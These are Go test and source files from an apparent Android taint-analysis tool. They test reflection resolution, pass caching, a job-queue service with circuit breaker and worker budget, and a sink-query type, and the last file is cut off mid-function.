		t.Errorf("counter mismatch: %d vs %d", res.Counters.ReflectionResolved, res.Soundness.ResolvedSites)
	}
	if st, ok := res.Passes["constprop"]; !ok || st.Runs != 1 {
		t.Errorf("constprop pass stats = %+v, want 1 run", res.Passes)
	}
}

// TestReflectiveLeakGatedByFlag: with ResolveReflection off the pipeline
// is the pre-reflection one — no bridges, no soundness report, no
// constprop pass entry, and the reflective leak is (unsoundly) missed.
func TestReflectiveLeakGatedByFlag(t *testing.T) {
	opts := DefaultOptions()
	opts.ResolveReflection = false
	res, err := AnalyzeFiles(context.Background(), testapps.ReflectionApp, opts)
	if err != nil {
		t.Fatal(err)
	}
	if n := len(res.Leaks()); n != 0 {
		t.Errorf("reflection off should miss the reflective leak, got %d", n)
	}
	if res.Soundness != nil {
		t.Errorf("Soundness should be nil with reflection off, got %+v", res.Soundness)
	}
	if _, ok := res.Passes["constprop"]; ok {
		t.Error("constprop pass must not appear in PassStats with reflection off")
	}
	if res.App.Program.Class(constprop.BridgesClass) != nil {
		t.Error("bridges class materialized despite reflection off")
	}
}

// TestDynamicReflectionSoundnessReport: a class name from an intent
// extra cannot be resolved; the run completes with zero leaks but the
// soundness report names the opaque sites so the "no leaks" claim is
// explicitly qualified.
func TestDynamicReflectionSoundnessReport(t *testing.T) {
	res, err := AnalyzeFiles(context.Background(), testapps.DynamicReflectionApp, DefaultOptions())
	if err != nil {
		t.Fatal(err)
	}
	if n := len(res.Leaks()); n != 0 {
		t.Errorf("dynamic reflection should yield no leaks, got %d", n)
	}
	if res.Soundness == nil || len(res.Soundness.Unresolved) == 0 {
		t.Fatalf("want non-empty unresolved list, got %+v", res.Soundness)
	}
	if res.Counters.ReflectionUnresolved != len(res.Soundness.Unresolved) {
		t.Errorf("counter mismatch: %d vs %d", res.Counters.ReflectionUnresolved, len(res.Soundness.Unresolved))
	}
	for _, u := range res.Soundness.Unresolved {
		if u.Reason != constprop.NonConstantString {
			t.Errorf("site %s reason = %q, want %q", u.Call, u.Reason, constprop.NonConstantString)
		}
		if u.Method == "" || u.Call == "" {
			t.Errorf("incomplete unresolved site: %+v", u)
		}
	}
}

// TestReflectionRerunSamePipeline: a second AnalyzeApp call on the same
// loaded app must reuse the already materialized bridges (the reuse
// guard re-associates them by name) and produce the same report.
func TestReflectionRerunSamePipeline(t *testing.T) {
	app, err := apk.LoadFiles(testapps.ReflectionApp)
	if err != nil {
		t.Fatal(err)
	}
	r1, err := AnalyzeApp(context.Background(), app, DefaultOptions())
	if err != nil {
		t.Fatal(err)
	}
	r2, err := AnalyzeApp(context.Background(), app, DefaultOptions())
	if err != nil {
		t.Fatal(err)
	}
	if len(r1.Leaks()) != len(r2.Leaks()) {
		t.Errorf("leaks differ across reruns: %d vs %d", len(r1.Leaks()), len(r2.Leaks()))
	}
	if r1.Soundness.ResolvedSites != r2.Soundness.ResolvedSites {
		t.Errorf("resolved sites differ across reruns: %d vs %d",
			r1.Soundness.ResolvedSites, r2.Soundness.ResolvedSites)
	}
	cls := app.Program.Class(constprop.BridgesClass)
	if cls == nil {
		t.Fatal("bridges class missing after reruns")
	}
	if n := len(cls.Methods()); n != 2 {
		t.Errorf("bridge count = %d, want 2 (one invoke, one ctor)", n)
	}
}
