package core_test

import (
	"context"
	"testing"

	"flowdroid/internal/core"
	"flowdroid/internal/insecurebank"
)

// TestPassesOnCompleteRun: a single clean run executes every pass exactly
// once and reuses nothing.
func TestPassesOnCompleteRun(t *testing.T) {
	res, err := core.AnalyzeFiles(context.Background(), insecurebank.Files, core.DefaultOptions())
	if err != nil {
		t.Fatal(err)
	}
	if res.Status != core.Complete {
		t.Fatalf("status = %v, want Complete", res.Status)
	}
	for _, pass := range []string{"scene", "callbacks", "lifecycle", "callgraph", "icfg", "sourcesink", "taint"} {
		st, ok := res.Passes[pass]
		if !ok {
			t.Errorf("pass %q missing from Result.Passes", pass)
			continue
		}
		if st.Runs != 1 || st.Hits != 0 {
			t.Errorf("pass %q: runs %d hits %d, want 1/0 on a single attempt", pass, st.Runs, st.Hits)
		}
	}
}

// TestDegradeLadderReusesUpstreamArtifacts: with CHA selected up front the
// ladder consists only of access-path-length rungs, which must re-run the
// taint pass alone — every upstream artifact (callbacks, dummy main, call
// graph, ICFG, source/sink manager) records a cache hit per retry.
func TestDegradeLadderReusesUpstreamArtifacts(t *testing.T) {
	app := stressApp(t)
	opts := core.DefaultOptions()
	opts.UseCHA = true
	opts.MaxPropagations = 500
	opts.Degrade = true
	res, err := core.AnalyzeFiles(context.Background(), app.Files, opts)
	if err != nil {
		t.Fatal(err)
	}
	if len(res.Degraded) == 0 {
		t.Fatal("budget-exhausted run recorded no downgrade rungs")
	}
	if res.Degraded[0] != "ap-length=3" {
		t.Errorf("first rung = %q, want ap-length=3 (CHA already selected)", res.Degraded[0])
	}
	attempts := 1 + len(res.Degraded)
	if got := res.Passes["taint"]; got.Runs != attempts || got.Hits != 0 {
		t.Errorf("taint: runs %d hits %d, want %d/0 (taint is the retried pass)", got.Runs, got.Hits, attempts)
	}
	for _, pass := range []string{"scene", "callbacks", "lifecycle", "callgraph", "icfg", "sourcesink"} {
		st := res.Passes[pass]
		if st.Runs != 1 {
			t.Errorf("pass %q ran %d times across %d attempts, want 1 (ap-length rungs must not invalidate it)",
				pass, st.Runs, attempts)
		}
		if st.Hits != attempts-1 {
			t.Errorf("pass %q: %d hits across %d attempts, want %d", pass, st.Hits, attempts, attempts-1)
		}
	}
}

// TestChaRungInvalidatesCallGraphAndICFGOnly: starting from the points-to
// call graph, the cha-callgraph rung must rebuild the call graph and the
// ICFG stitched from it, but keep callbacks, dummy main and the
// source/sink manager memoized.
func TestChaRungInvalidatesCallGraphAndICFGOnly(t *testing.T) {
	app := stressApp(t)
	opts := core.DefaultOptions()
	opts.MaxPropagations = 500
	opts.Degrade = true
	res, err := core.AnalyzeFiles(context.Background(), app.Files, opts)
	if err != nil {
		t.Fatal(err)
	}
	if len(res.Degraded) == 0 || res.Degraded[0] != "cha-callgraph" {
		t.Fatalf("degraded rungs = %v, want cha-callgraph first", res.Degraded)
	}
	attempts := 1 + len(res.Degraded)
	// One build under "pta", one under "cha"; further (ap-length) rungs
	// reuse the CHA artifact.
	for _, pass := range []string{"callgraph", "icfg"} {
		st := res.Passes[pass]
		if st.Runs != 2 || st.Hits != attempts-2 {
			t.Errorf("pass %q: runs %d hits %d across %d attempts, want 2/%d (pta build, cha rebuild, then reuse)",
				pass, st.Runs, st.Hits, attempts, attempts-2)
		}
	}
	for _, pass := range []string{"scene", "callbacks", "lifecycle", "sourcesink"} {
		st := res.Passes[pass]
		if st.Runs != 1 || st.Hits != attempts-1 {
			t.Errorf("pass %q: runs %d hits %d across %d attempts, want 1/%d",
				pass, st.Runs, st.Hits, attempts, attempts-1)
		}
	}
	if got := res.Passes["taint"]; got.Runs != attempts {
		t.Errorf("taint ran %d times across %d attempts, want one run per attempt", got.Runs, attempts)
	}
}
