package core

import "flowdroid/internal/sourcesink"

// Query restricts an analysis to a subset of the configured sinks: the
// demand-driven mode of the pipeline. The zero value (no selectors) is
// the whole-program analysis and changes nothing.
//
// Query mode is contractually equivalent to filtering: for any query Q,
// the canonical leak report equals the whole-program report filtered to
// the leaks whose matched sink rule Q selects. The pipeline exploits the
// query for speed — components that cannot reach a queried sink are not
// modeled in the dummy main, and the taint solver does not explore call
// trees irrelevant to the query — never for different answers.
type Query struct {
	// Sinks selects sink rules by label ("sms"), by "Class.method", by
	// "Class.method/arity", or by "<Class: method/arity>" signature (see
	// sourcesink.Sink.MatchesSelector). Empty means all sinks.
	Sinks []string
}

// IsAll reports whether the query is the trivial all-sinks query.
func (q Query) IsAll() bool { return len(q.Sinks) == 0 }

// Fingerprint returns a short stable fingerprint of the query for
// artifact and circuit-breaker keying: order- and duplicate-insensitive,
// empty for the all-sinks query.
func (q Query) Fingerprint() string { return sourcesink.QueryFingerprint(q.Sinks) }
