package service

import (
	"context"
	"errors"
	"runtime"
	"strings"
	"testing"
	"time"

	"flowdroid/internal/appgen"
	"flowdroid/internal/core"
	"flowdroid/internal/metrics"
)

// genApp returns the files of one deterministic generated app.
func genApp(t *testing.T, p appgen.Profile, seed int64) map[string]string {
	t.Helper()
	apps := appgen.GenerateCorpus(p, 1, seed)
	if len(apps) != 1 {
		t.Fatalf("generated %d apps, want 1", len(apps))
	}
	return apps[0].Files
}

// waitJob polls until the job leaves the queued/running states.
func waitJob(t *testing.T, s *Server, id string) JobView {
	t.Helper()
	deadline := time.Now().Add(30 * time.Second)
	for time.Now().Before(deadline) {
		v, ok := s.Job(id)
		if !ok {
			t.Fatalf("job %s unknown", id)
		}
		if v.State == Done || v.State == Failed {
			return v
		}
		time.Sleep(2 * time.Millisecond)
	}
	t.Fatalf("job %s did not finish in time", id)
	return JobView{}
}

// waitRunning polls until the job is picked up by an executor.
func waitRunning(t *testing.T, s *Server, id string) {
	t.Helper()
	deadline := time.Now().Add(10 * time.Second)
	for time.Now().Before(deadline) {
		v, ok := s.Job(id)
		if !ok {
			t.Fatalf("job %s unknown", id)
		}
		if v.State != Queued {
			return
		}
		time.Sleep(time.Millisecond)
	}
	t.Fatalf("job %s never started", id)
}

func shutdown(t *testing.T, s *Server) {
	t.Helper()
	ctx, cancel := context.WithTimeout(context.Background(), 30*time.Second)
	defer cancel()
	if err := s.Shutdown(ctx); err != nil {
		t.Fatalf("drain: %v", err)
	}
}

func TestSubmitAndComplete(t *testing.T) {
	rec := metrics.New()
	s := New(Config{QueueSize: 4, Analyses: 2, WorkerBudget: 4, Recorder: rec})
	defer shutdown(t, s)

	view, err := s.Submit(Request{Files: genApp(t, appgen.Play, 7)})
	if err != nil {
		t.Fatalf("submit: %v", err)
	}
	if view.State != Queued {
		t.Fatalf("state %v at submit, want queued", view.State)
	}
	done := waitJob(t, s, view.ID)
	if done.State != Done {
		t.Fatalf("state %v (err %v), want done", done.State, done.Err)
	}
	if done.Result.Status != core.Complete {
		t.Fatalf("status %v, want Complete", done.Result.Status)
	}
	if done.Workers != 2 {
		t.Fatalf("granted %d workers, want fair share 2 of budget 4 over 2 analyses", done.Workers)
	}
	if done.Finished.Before(done.Started) || done.Started.Before(done.Submitted) {
		t.Fatalf("timestamps out of order: %v / %v / %v", done.Submitted, done.Started, done.Finished)
	}
	snap := rec.Snapshot()
	if got := snap.Schedule["service.submitted"]; got != 1 {
		t.Fatalf("service.submitted = %d, want 1", got)
	}
	if got := snap.Schedule["service.completed"]; got != 1 {
		t.Fatalf("service.completed = %d, want 1", got)
	}
}

func TestSubmitEmptyPackageRejected(t *testing.T) {
	s := New(Config{})
	defer shutdown(t, s)
	if _, err := s.Submit(Request{}); err == nil {
		t.Fatal("empty package admitted")
	}
}

func TestQueueFullRejectedNotBuffered(t *testing.T) {
	rec := metrics.New()
	s := New(Config{QueueSize: 1, Analyses: 1, Recorder: rec})
	release := make(chan struct{})
	s.beforeJob = func(ctx context.Context, id string) {
		select {
		case <-release:
		case <-ctx.Done():
		}
	}
	defer shutdown(t, s)
	defer close(release)

	files := genApp(t, appgen.Play, 1)
	a, err := s.Submit(Request{Files: files})
	if err != nil {
		t.Fatalf("submit a: %v", err)
	}
	waitRunning(t, s, a.ID) // a holds the single executor...
	b, err := s.Submit(Request{Files: files})
	if err != nil {
		t.Fatalf("submit b: %v", err) // ...b fills the queue of 1...
	}
	if _, err := s.Submit(Request{Files: files}); !errors.Is(err, ErrQueueFull) {
		t.Fatalf("third submit: err %v, want ErrQueueFull", err) // ...c is rejected.
	}
	snap := rec.Snapshot()
	if got := snap.Schedule["service.rejected.queue_full"]; got != 1 {
		t.Fatalf("service.rejected.queue_full = %d, want 1", got)
	}
	if peak := snap.Schedule["service.queue.depth.peak"]; peak > 1 {
		t.Fatalf("queue depth peak %d exceeds the bound 1", peak)
	}

	release <- struct{}{} // let a finish; the executor then drains b
	release <- struct{}{}
	if v := waitJob(t, s, a.ID); v.State != Done {
		t.Fatalf("a ended %v, want done", v.State)
	}
	if v := waitJob(t, s, b.ID); v.State != Done {
		t.Fatalf("b ended %v, want done", v.State)
	}
}

func TestDrainFinishesQueuedJobs(t *testing.T) {
	rec := metrics.New()
	s := New(Config{QueueSize: 8, Analyses: 2, Recorder: rec})

	var ids []string
	for seed := int64(1); seed <= 4; seed++ {
		v, err := s.Submit(Request{Files: genApp(t, appgen.Play, seed)})
		if err != nil {
			t.Fatalf("submit %d: %v", seed, err)
		}
		ids = append(ids, v.ID)
	}
	shutdown(t, s) // drain must run all four to completion

	for _, id := range ids {
		v, ok := s.Job(id)
		if !ok || v.State != Done {
			t.Fatalf("job %s after drain: ok=%v state=%v, want done", id, ok, v.State)
		}
		if v.Result.Status != core.Complete {
			t.Fatalf("job %s status %v after drain, want Complete", id, v.Result.Status)
		}
	}
	if _, err := s.Submit(Request{Files: genApp(t, appgen.Play, 9)}); !errors.Is(err, ErrDraining) {
		t.Fatalf("submit after drain: err %v, want ErrDraining", err)
	}
	if got := rec.Snapshot().Schedule["service.rejected.draining"]; got != 1 {
		t.Fatalf("service.rejected.draining = %d, want 1", got)
	}
}

func TestForcedDrainCancelsInFlight(t *testing.T) {
	s := New(Config{QueueSize: 2, Analyses: 1})
	s.beforeJob = func(ctx context.Context, id string) { <-ctx.Done() } // wedge until cancelled

	v, err := s.Submit(Request{Files: genApp(t, appgen.Play, 3)})
	if err != nil {
		t.Fatalf("submit: %v", err)
	}
	waitRunning(t, s, v.ID)

	ctx, cancel := context.WithTimeout(context.Background(), 50*time.Millisecond)
	defer cancel()
	if err := s.Shutdown(ctx); !errors.Is(err, context.DeadlineExceeded) {
		t.Fatalf("forced drain returned %v, want DeadlineExceeded", err)
	}
	// The wedged job was deadline-cancelled, not lost: it finished with
	// the partial-result status the resilience layer defines.
	done, ok := s.Job(v.ID)
	if !ok || done.State != Done {
		t.Fatalf("job after forced drain: ok=%v state=%v err=%v", ok, done.State, done.Err)
	}
	if done.Result.Status != core.DeadlineExceeded {
		t.Fatalf("status %v after forced drain, want DeadlineExceeded", done.Result.Status)
	}
}

func TestShutdownIsIdempotent(t *testing.T) {
	s := New(Config{})
	shutdown(t, s)
	shutdown(t, s) // second drain returns immediately
}

// defectiveApp returns an app whose IR carries an Error-severity defect,
// so a linted analysis ends in InvalidProgram.
func defectiveApp(t *testing.T, seed int64) map[string]string {
	t.Helper()
	for _, d := range appgen.Defects() {
		if !d.Error {
			continue
		}
		app := appgen.GenerateCorpus(appgen.Play, 1, seed)[0]
		return d.Apply(app).Files
	}
	t.Fatal("no Error-severity defect in the registry")
	return nil
}

func TestBreakerTripsOnRepeatedInvalidProgram(t *testing.T) {
	rec := metrics.New()
	s := New(Config{QueueSize: 4, Analyses: 1, BreakerTrip: 2, BreakerCooldown: time.Hour, Recorder: rec})
	defer shutdown(t, s)

	files := defectiveApp(t, 5)
	for i := 0; i < 2; i++ {
		v, err := s.Submit(Request{Files: files, Lint: true})
		if err != nil {
			t.Fatalf("submit %d: %v", i, err)
		}
		done := waitJob(t, s, v.ID)
		if done.State != Done || done.Result.Status != core.InvalidProgram {
			t.Fatalf("job %d: state %v status %v, want done/InvalidProgram", i, done.State, done.Result)
		}
	}
	_, err := s.Submit(Request{Files: files, Lint: true})
	var open *CircuitOpenError
	if !errors.As(err, &open) {
		t.Fatalf("third submit: err %v, want CircuitOpenError", err)
	}
	if open.RetryAfter <= 0 {
		t.Fatalf("RetryAfter %v, want positive", open.RetryAfter)
	}
	if !strings.Contains(open.Error(), open.Fingerprint) {
		t.Fatalf("error %q does not name the fingerprint", open.Error())
	}
	snap := rec.Snapshot()
	if got := snap.Schedule["service.breaker.tripped"]; got != 1 {
		t.Fatalf("service.breaker.tripped = %d, want 1", got)
	}
	if got := snap.Schedule["service.rejected.circuit_open"]; got != 1 {
		t.Fatalf("service.rejected.circuit_open = %d, want 1", got)
	}

	// A different app is unaffected by the poison fingerprint.
	v, err := s.Submit(Request{Files: genApp(t, appgen.Play, 11)})
	if err != nil {
		t.Fatalf("healthy submit: %v", err)
	}
	if done := waitJob(t, s, v.ID); done.State != Done || done.Result.Status != core.Complete {
		t.Fatalf("healthy app: state %v, want done/Complete", done.State)
	}
}

func TestRetainedJobsEvicted(t *testing.T) {
	s := New(Config{QueueSize: 8, Analyses: 1, RetainJobs: 2})
	defer shutdown(t, s)

	var ids []string
	for seed := int64(1); seed <= 3; seed++ {
		v, err := s.Submit(Request{Files: genApp(t, appgen.Play, seed)})
		if err != nil {
			t.Fatalf("submit: %v", err)
		}
		ids = append(ids, v.ID)
		waitJob(t, s, v.ID)
	}
	if _, ok := s.Job(ids[0]); ok {
		t.Fatal("oldest finished job not evicted with RetainJobs=2")
	}
	for _, id := range ids[1:] {
		if _, ok := s.Job(id); !ok {
			t.Fatalf("job %s evicted too early", id)
		}
	}
}

func TestFingerprint(t *testing.T) {
	a := map[string]string{"x": "1", "y": "2"}
	b := map[string]string{"y": "2", "x": "1"}
	if Fingerprint(a) != Fingerprint(b) {
		t.Fatal("fingerprint depends on map order")
	}
	c := map[string]string{"x": "1", "y": "3"}
	if Fingerprint(a) == Fingerprint(c) {
		t.Fatal("different contents share a fingerprint")
	}
	// The name/content boundary is part of the hash.
	d := map[string]string{"xy": "", "z": ""}
	e := map[string]string{"x": "y", "z": ""}
	if Fingerprint(d) == Fingerprint(e) {
		t.Fatal("fingerprint boundary ambiguity")
	}
}

func TestShutdownLeavesNoExecutors(t *testing.T) {
	before := runtime.NumGoroutine()
	s := New(Config{QueueSize: 4, Analyses: 4})
	for seed := int64(1); seed <= 4; seed++ {
		if _, err := s.Submit(Request{Files: genApp(t, appgen.Play, seed)}); err != nil {
			t.Fatalf("submit: %v", err)
		}
	}
	shutdown(t, s)
	deadline := time.Now().Add(5 * time.Second)
	for time.Now().Before(deadline) {
		if runtime.NumGoroutine() <= before {
			return
		}
		time.Sleep(10 * time.Millisecond)
	}
	t.Fatalf("goroutines: %d before, %d after drain", before, runtime.NumGoroutine())
}
