package service

import (
	"fmt"
	"testing"
	"time"
)

var t0 = time.Date(2026, 1, 1, 0, 0, 0, 0, time.UTC)

func TestBreakerTripsAfterConsecutiveFailures(t *testing.T) {
	b := newBreaker(3, time.Minute)
	for i := 0; i < 2; i++ {
		if _, open := b.deny("app", t0); open {
			t.Fatalf("circuit open after %d failures, trip is 3", i)
		}
		if b.record("app", true, t0) {
			t.Fatalf("record %d reported a trip, trip is 3", i)
		}
	}
	if _, open := b.deny("app", t0); open {
		t.Fatal("circuit open after 2 failures, trip is 3")
	}
	if !b.record("app", true, t0) {
		t.Fatal("third consecutive failure did not trip the circuit")
	}
	wait, open := b.deny("app", t0.Add(time.Second))
	if !open {
		t.Fatal("circuit not open after trip")
	}
	if wait <= 0 || wait > time.Minute {
		t.Fatalf("remaining cooldown %v, want in (0, 1m]", wait)
	}
}

func TestBreakerSuccessResetsCount(t *testing.T) {
	b := newBreaker(2, time.Minute)
	b.record("app", true, t0)
	b.record("app", false, t0) // success wipes the failure history
	b.record("app", true, t0)
	if _, open := b.deny("app", t0); open {
		t.Fatal("circuit open although failures were never consecutive")
	}
}

func TestBreakerIsPerFingerprint(t *testing.T) {
	b := newBreaker(1, time.Minute)
	b.record("bad", true, t0)
	if _, open := b.deny("bad", t0); !open {
		t.Fatal("tripped fingerprint not open")
	}
	if _, open := b.deny("good", t0); open {
		t.Fatal("unrelated fingerprint open")
	}
}

func TestBreakerHalfOpenProbe(t *testing.T) {
	b := newBreaker(1, time.Minute)
	b.record("app", true, t0)

	// During cooldown: denied.
	if _, open := b.deny("app", t0.Add(30*time.Second)); !open {
		t.Fatal("circuit closed inside the cooldown")
	}
	// After cooldown: exactly one probe is admitted.
	later := t0.Add(2 * time.Minute)
	if _, open := b.deny("app", later); open {
		t.Fatal("probe denied after cooldown")
	}
	if _, open := b.deny("app", later); !open {
		t.Fatal("second submission admitted while the probe is in flight")
	}

	// A good probe closes the circuit for real.
	if b.record("app", false, later) {
		t.Fatal("good probe reported a trip")
	}
	if _, open := b.deny("app", later); open {
		t.Fatal("circuit open after a good probe")
	}
}

func TestBreakerBadProbeReopens(t *testing.T) {
	b := newBreaker(1, time.Minute)
	b.record("app", true, t0)
	later := t0.Add(2 * time.Minute)
	if _, open := b.deny("app", later); open {
		t.Fatal("probe denied after cooldown")
	}
	if !b.record("app", true, later) {
		t.Fatal("bad probe did not re-trip the circuit")
	}
	if _, open := b.deny("app", later.Add(time.Second)); !open {
		t.Fatal("circuit closed right after a bad probe")
	}
	// And the new cooldown starts at the probe failure.
	if _, open := b.deny("app", later.Add(2*time.Minute)); open {
		t.Fatal("second probe denied after the second cooldown")
	}
}

// TestBreakerEntriesBounded pins the eviction fix: fingerprints that
// fail fewer than `trip` times and are never resubmitted used to leave
// their entries in the map forever, so a long-lived daemon's breaker
// grew without bound under one-off failures. The TTL sweep keeps the
// map bounded by the failure *rate*, not the daemon's lifetime.
func TestBreakerEntriesBounded(t *testing.T) {
	b := newBreaker(3, time.Minute)
	b.entryTTL = time.Minute
	now := t0
	for i := 0; i < 2000; i++ {
		now = now.Add(time.Second)
		fp := fmt.Sprintf("one-off-%d", i)
		if _, open := b.deny(fp, now); open {
			t.Fatalf("fresh fingerprint %s denied", fp)
		}
		b.record(fp, true, now)
	}
	b.mu.Lock()
	n := len(b.entries)
	b.mu.Unlock()
	// One entry per second of TTL plus at most one sweep interval of
	// slack — far below the 2000 distinct failures seen.
	if limit := int((b.entryTTL + b.entryTTL/4) / time.Second); n > limit {
		t.Fatalf("entries map holds %d entries after 2000 one-off failures, want <= %d (TTL eviction broken)", n, limit)
	}
	if n == 0 {
		t.Fatal("eviction dropped the freshest entries too")
	}
}

// TestBreakerLostProbeReopens pins the probe-deadline fix: a half-open
// probe whose job never reaches record (dropped during drain, say) used
// to leave probing=true forever, permanently denying the fingerprint.
func TestBreakerLostProbeReopens(t *testing.T) {
	b := newBreaker(1, time.Minute) // probeTTL defaults to the cooldown
	b.record("app", true, t0)
	probeAt := t0.Add(2 * time.Minute)
	if _, open := b.deny("app", probeAt); open {
		t.Fatal("probe denied after cooldown")
	}
	// The probe's job is dropped: no record ever arrives.

	// Inside the probe window concurrent submissions are denied, with
	// Retry-After scaled to the probe's remaining deadline — not a full
	// cooldown regardless of progress.
	wait, open := b.deny("app", probeAt.Add(45*time.Second))
	if !open {
		t.Fatal("second submission admitted while the probe is in flight")
	}
	if want := 15 * time.Second; wait != want {
		t.Fatalf("half-open Retry-After %v, want remaining probe window %v", wait, want)
	}

	// Past the probe deadline the circuit re-opens from the expiry, so
	// the fingerprint waits out one cooldown instead of forever.
	wait, open = b.deny("app", probeAt.Add(90*time.Second))
	if !open {
		t.Fatal("circuit closed right after a lost probe")
	}
	if want := 30 * time.Second; wait != want {
		t.Fatalf("post-expiry Retry-After %v, want %v (cooldown counted from the probe deadline)", wait, want)
	}

	// After that cooldown a fresh probe is admitted and can close the
	// circuit for real — no permanent denial.
	retryAt := probeAt.Add(3 * time.Minute)
	if _, open := b.deny("app", retryAt); open {
		t.Fatal("fresh probe denied after the re-opened cooldown")
	}
	if b.record("app", false, retryAt) {
		t.Fatal("good probe reported a trip")
	}
	if _, open := b.deny("app", retryAt); open {
		t.Fatal("circuit still open after a good probe")
	}
}

// TestBreakerLostProbeLongGap covers the other expiry path: when the
// next submission arrives after both the probe deadline and the
// follow-up cooldown have passed, it becomes the new probe immediately.
func TestBreakerLostProbeLongGap(t *testing.T) {
	b := newBreaker(1, time.Minute)
	b.record("app", true, t0)
	probeAt := t0.Add(2 * time.Minute)
	if _, open := b.deny("app", probeAt); open {
		t.Fatal("probe denied after cooldown")
	}
	// Probe lost; next traffic arrives much later.
	if _, open := b.deny("app", probeAt.Add(10*time.Minute)); open {
		t.Fatal("submission denied long after the lost probe's deadline and cooldown")
	}
}

func TestBreakerDisabled(t *testing.T) {
	b := newBreaker(-1, time.Minute)
	for i := 0; i < 10; i++ {
		b.record("app", true, t0)
	}
	if _, open := b.deny("app", t0); open {
		t.Fatal("disabled breaker denied a submission")
	}
}

func TestWorkerBudgetFairShare(t *testing.T) {
	b := newWorkerBudget(8, 4)
	var grants []int
	for i := 0; i < 4; i++ {
		grants = append(grants, b.acquire())
	}
	for _, g := range grants {
		if g != 2 {
			t.Fatalf("grants %v, want fair share 2 each (budget 8 over 4 analyses)", grants)
		}
	}
	if leased := b.leasedNow(); leased != 8 {
		t.Fatalf("leased %d, want 8", leased)
	}
	for _, g := range grants {
		b.release(g)
	}
	if leased := b.leasedNow(); leased != 0 {
		t.Fatalf("leased %d after releases, want 0", leased)
	}
}

func TestWorkerBudgetSingleExecutorGetsAll(t *testing.T) {
	b := newWorkerBudget(8, 1)
	if g := b.acquire(); g != 8 {
		t.Fatalf("grant %d, want the whole budget 8", g)
	}
}

func TestWorkerBudgetNeverStarves(t *testing.T) {
	// More executors than workers: everyone still gets a sequential
	// solver (share 1), and the lease may oversubscribe by design.
	b := newWorkerBudget(2, 4)
	for i := 0; i < 4; i++ {
		if g := b.acquire(); g != 1 {
			t.Fatalf("grant %d, want 1", g)
		}
	}
}
