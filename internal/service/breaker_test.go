package service

import (
	"testing"
	"time"
)

var t0 = time.Date(2026, 1, 1, 0, 0, 0, 0, time.UTC)

func TestBreakerTripsAfterConsecutiveFailures(t *testing.T) {
	b := newBreaker(3, time.Minute)
	for i := 0; i < 2; i++ {
		if _, open := b.deny("app", t0); open {
			t.Fatalf("circuit open after %d failures, trip is 3", i)
		}
		if b.record("app", true, t0) {
			t.Fatalf("record %d reported a trip, trip is 3", i)
		}
	}
	if _, open := b.deny("app", t0); open {
		t.Fatal("circuit open after 2 failures, trip is 3")
	}
	if !b.record("app", true, t0) {
		t.Fatal("third consecutive failure did not trip the circuit")
	}
	wait, open := b.deny("app", t0.Add(time.Second))
	if !open {
		t.Fatal("circuit not open after trip")
	}
	if wait <= 0 || wait > time.Minute {
		t.Fatalf("remaining cooldown %v, want in (0, 1m]", wait)
	}
}

func TestBreakerSuccessResetsCount(t *testing.T) {
	b := newBreaker(2, time.Minute)
	b.record("app", true, t0)
	b.record("app", false, t0) // success wipes the failure history
	b.record("app", true, t0)
	if _, open := b.deny("app", t0); open {
		t.Fatal("circuit open although failures were never consecutive")
	}
}

func TestBreakerIsPerFingerprint(t *testing.T) {
	b := newBreaker(1, time.Minute)
	b.record("bad", true, t0)
	if _, open := b.deny("bad", t0); !open {
		t.Fatal("tripped fingerprint not open")
	}
	if _, open := b.deny("good", t0); open {
		t.Fatal("unrelated fingerprint open")
	}
}

func TestBreakerHalfOpenProbe(t *testing.T) {
	b := newBreaker(1, time.Minute)
	b.record("app", true, t0)

	// During cooldown: denied.
	if _, open := b.deny("app", t0.Add(30*time.Second)); !open {
		t.Fatal("circuit closed inside the cooldown")
	}
	// After cooldown: exactly one probe is admitted.
	later := t0.Add(2 * time.Minute)
	if _, open := b.deny("app", later); open {
		t.Fatal("probe denied after cooldown")
	}
	if _, open := b.deny("app", later); !open {
		t.Fatal("second submission admitted while the probe is in flight")
	}

	// A good probe closes the circuit for real.
	if b.record("app", false, later) {
		t.Fatal("good probe reported a trip")
	}
	if _, open := b.deny("app", later); open {
		t.Fatal("circuit open after a good probe")
	}
}

func TestBreakerBadProbeReopens(t *testing.T) {
	b := newBreaker(1, time.Minute)
	b.record("app", true, t0)
	later := t0.Add(2 * time.Minute)
	if _, open := b.deny("app", later); open {
		t.Fatal("probe denied after cooldown")
	}
	if !b.record("app", true, later) {
		t.Fatal("bad probe did not re-trip the circuit")
	}
	if _, open := b.deny("app", later.Add(time.Second)); !open {
		t.Fatal("circuit closed right after a bad probe")
	}
	// And the new cooldown starts at the probe failure.
	if _, open := b.deny("app", later.Add(2*time.Minute)); open {
		t.Fatal("second probe denied after the second cooldown")
	}
}

func TestBreakerDisabled(t *testing.T) {
	b := newBreaker(-1, time.Minute)
	for i := 0; i < 10; i++ {
		b.record("app", true, t0)
	}
	if _, open := b.deny("app", t0); open {
		t.Fatal("disabled breaker denied a submission")
	}
}

func TestWorkerBudgetFairShare(t *testing.T) {
	b := newWorkerBudget(8, 4)
	var grants []int
	for i := 0; i < 4; i++ {
		grants = append(grants, b.acquire())
	}
	for _, g := range grants {
		if g != 2 {
			t.Fatalf("grants %v, want fair share 2 each (budget 8 over 4 analyses)", grants)
		}
	}
	if leased := b.leasedNow(); leased != 8 {
		t.Fatalf("leased %d, want 8", leased)
	}
	for _, g := range grants {
		b.release(g)
	}
	if leased := b.leasedNow(); leased != 0 {
		t.Fatalf("leased %d after releases, want 0", leased)
	}
}

func TestWorkerBudgetSingleExecutorGetsAll(t *testing.T) {
	b := newWorkerBudget(8, 1)
	if g := b.acquire(); g != 8 {
		t.Fatalf("grant %d, want the whole budget 8", g)
	}
}

func TestWorkerBudgetNeverStarves(t *testing.T) {
	// More executors than workers: everyone still gets a sequential
	// solver (share 1), and the lease may oversubscribe by design.
	b := newWorkerBudget(2, 4)
	for i := 0; i < 4; i++ {
		if g := b.acquire(); g != 1 {
			t.Fatalf("grant %d, want 1", g)
		}
	}
}
