package service

import "sync"

// workerBudget leases taint-solver workers from a global budget shared
// fairly across concurrent analyses. Each job is granted the static
// fair share max(1, total/analyses) — with at most `analyses` leases
// outstanding the sum of grants never exceeds the budget — and the
// grant becomes the job's taint.Config.Workers. A grant is clamped by
// the remaining budget but never below 1: a pool size of 1 is the
// solver's sequential drain, so no job can be starved outright.
//
// The split is deliberately static rather than work-stealing: a job's
// worker count must be fixed before its solve starts (the pool size is
// a taint.Config field), and on completed runs the canonical leak
// report is worker-count-independent, so fairness costs no accuracy.
type workerBudget struct {
	mu     sync.Mutex
	total  int
	share  int
	leased int
}

func newWorkerBudget(total, analyses int) *workerBudget {
	if total < 1 {
		total = 1
	}
	if analyses < 1 {
